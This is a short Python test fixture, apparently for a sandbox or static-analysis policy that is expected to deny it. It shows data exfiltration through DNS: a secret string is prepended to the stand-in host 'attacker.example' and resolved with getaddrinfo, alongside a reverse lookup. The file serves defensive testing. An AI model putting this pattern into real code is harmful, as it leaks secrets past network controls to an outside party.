# corpus: profile=safe_eval decision=deny
"""A host-name lookup through the event loop sends a DNS query: data can leave in the name."""
import asyncio


async def lookup(secret: str) -> list:
    loop = asyncio.get_running_loop()
    found = await loop.getaddrinfo(secret + ".attacker.example", 443)  # expect: PG005
    names = await loop.getnameinfo(("192.0.2.1", 443))  # expect: PG005
    return [found, names]
